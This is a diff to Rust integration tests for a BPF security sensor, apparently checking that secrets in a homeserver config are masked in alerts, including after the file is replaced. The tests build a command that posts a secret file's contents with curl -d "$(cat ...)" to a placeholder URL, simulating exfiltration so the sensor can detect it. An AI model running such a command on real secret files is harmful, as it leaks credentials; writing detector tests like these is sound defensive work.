@@ -105,15 +105,11 @@ fn after<'a>(args: &'a [Value], flag: &str) -> Option<&'a str> {
     args.iter().position(|arg| arg == flag).and_then(|i| args.get(i + 1)?.as_str())
 }
 
-#[test]
-#[ignore = "needs root and BPF: run with cargo xtask test"]
-fn a_secret_file_passed_on_curl_s_command_line_is_masked_everywhere() -> Result<()> {
-    let (lab, sensor, config) = homeserver_lab()?;
-    let started = sensor.expect(alert::is_sensor_started, ALERT_TIMEOUT)?;
-    assert_eq!(started.pointer("/vigie/fingerprints/files"), Some(&Value::from(2)), "{started:#}");
-
-    let script = format!("curl -sS -o /dev/null --max-time 10 URL -d \"$(cat {})\"", quoted(&config));
-    let alert = curl_alert(&lab, &sensor, &script, &[])?;
+/// Sends `config` (holding `content`) with `curl -d "$(cat config)"` and checks the alert: the
+/// `-d` value is one mask, the other arguments stay.
+fn assert_sent_config_is_masked(lab: &Lab, sensor: &Sensor, config: &Path, content: &str) -> Result<()> {
+    let script = format!("curl -sS -o /dev/null --max-time 10 URL -d \"$(cat {})\"", quoted(config));
+    let alert = curl_alert(lab, sensor, &script, &[])?;
 
     assert_eq!(alert::file_path(&alert), config.to_str(), "the homeserver config leaked: {alert:#}");
     let args = alert.pointer("/process/args").and_then(Value::as_array).expect("process.args");
@@ -123,10 +119,41 @@ fn a_secret_file_passed_on_curl_s_command_line_is_masked_everywhere() -> Result<
     // masked as one span.
     let before: usize =
         args.iter().take_while(|arg| *arg != "-d").map(|arg| arg.as_str().map_or(0, str::len) + 1).sum();
-    let kept = HOMESERVER_YAML.trim_end().len().min(ARGS_CAPTURED - before - "-d".len() - 1);
+    let kept = content.trim_end().len().min(ARGS_CAPTURED - before - "-d".len() - 1);
     assert!(is_mask_of(after(args, "-d"), kept), "the -d value is one mask of {kept} bytes: {args:?}");
+    Ok(())
+}
+
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn a_secret_file_passed_on_curl_s_command_line_is_masked_everywhere() -> Result<()> {
+    let (lab, sensor, config) = homeserver_lab()?;
+    let started = sensor.expect(alert::is_sensor_started, ALERT_TIMEOUT)?;
+    assert_eq!(started.pointer("/vigie/fingerprints/files"), Some(&Value::from(2)), "{started:#}");
+
+    assert_sent_config_is_masked(&lab, &sensor, &config, HOMESERVER_YAML)?;
+
     let printed = everything_printed(sensor)?;
     assert_never_printed(&printed, HOMESERVER_YAML, "the homeserver config");
+    Ok(())
+}
+
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn a_secret_file_replaced_after_start_is_fingerprinted_again() -> Result<()> {
+    let (lab, sensor, config) = homeserver_lab()?;
+    // A first line no shape rule masks: only the new content's fingerprints can.
+    let rotated = format!("public_baseurl: \"https://matrix.rotated.vigie.test/\"\n{HOMESERVER_YAML}");
+    let replacement = lab.dir().join("homeserver.yaml.new");
+    fs::write(&replacement, &rotated)?;
+    fs::rename(&replacement, &config)?;
+    // The agent fingerprints changed files right after it says a path leads to a new file.
+    sensor.expect(alert::is_watch_updated_for(&config), ALERT_TIMEOUT)?;
+
+    assert_sent_config_is_masked(&lab, &sensor, &config, &rotated)?;
+
+    let printed = everything_printed(sensor)?;
+    assert_never_printed(&printed, &rotated, "the replaced homeserver config");
     Ok(())
 }
 
